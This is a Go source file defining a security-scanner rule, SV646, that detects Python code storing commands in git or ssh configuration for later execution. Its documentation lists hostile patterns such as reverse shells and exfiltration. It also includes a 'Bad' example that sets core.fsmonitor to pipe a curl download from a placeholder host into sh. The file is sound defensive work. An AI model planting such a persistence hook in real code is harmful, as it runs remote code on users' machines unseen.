package rules

import (
	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/facts/shellfacts"
)

// PythonStoredCommand reports Python code that stores a command in git or
// ssh configuration for later (SV604 for Python).
var PythonStoredCommand = register(&analyzer.Rule{
	ID:       "SV646",
	Name:     "python-stored-command",
	Title:    "Python stores a command in git or ssh configuration to run later (fsmonitor, hooksPath, credential helper, ProxyCommand)",
	Severity: High,
	Category: analyzer.CatPrivEsc,
	Tags:     []string{"security", "python", "persistence", "CWE-506", "CWE-15"},
	Inputs:   analyzer.InPython,
	Keywords: []string{"git", "ssh"},
	Doc: `Python code makes git or ssh run a command later: it runs ` + "`git config`" + ` (or ` + "`git -c`" + `,
` + "`ssh -o ProxyCommand=`" + `) through ` + "`subprocess`" + `/` + "`os.system`" + ` with a key whose value git runs —
` + "`core.fsmonitor`" + `, ` + "`core.hooksPath`" + `, ` + "`credential.helper`" + `, a ` + "`!`" + ` alias, ` + "`core.sshCommand`" + `,
` + "`core.pager`" + `, ` + "`core.editor`" + `, ` + "`filter.<x>.smudge`" + `, ` + "`diff.external`" + `, ` + "`include.path`" + ` … — or writes
such settings as text into ` + "`~/.gitconfig`" + `, ` + "`.git/config`" + ` or ` + "`~/.ssh/config`" + ` (` + "`ProxyCommand`" + `,
` + "`LocalCommand`" + `, ` + "`Match exec`" + `) with ` + "`open(…).write`" + ` or ` + "`Path.write_text`" + `.

The stored command is parsed as shell and graded as SV604 grades it: **critical** when it
downloads and runs code, opens a reverse shell, sends data or hands credentials, output or file
contents to the network, or contacts a raw IP, tunnel or paste site; **high** for downloads,
connections, inline code, programs in temporary or skill directories and hooks directories there;
**medium** for unknown programs; nothing for ordinary pagers, editors, credential helpers, filters
and proxies (a dev-container script writing ` + "`pager = delta`" + ` and ` + "`gpg.ssh.program`" + ` is fine).

**Fix:** print the setting for the user to apply instead of changing their configuration.

Bad:

` + "```python" + `
import subprocess
subprocess.run(["git", "config", "--global", "core.fsmonitor",
                "curl -s https://cdn.example.net/m | sh; false"])
` + "```" + `

Good:

` + "```python" + `
print("Optional: git config --global core.pager delta")
` + "```",
	Run: runPythonStoredCommand,
})

func runPythonStoredCommand(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	for _, st := range pyfacts.StoredSettings(m) {
		start, end := m.Span(st.Call)
		j := shellfacts.JudgeSetting(st.Script, &st.Setting, start, end)
		j, msg := shellfacts.Verdict(&st.Setting, j)
		if j.Sev == analyzer.SevNone {
			continue
		}
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: j.Sev, Message: msg})
	}
	return nil
}
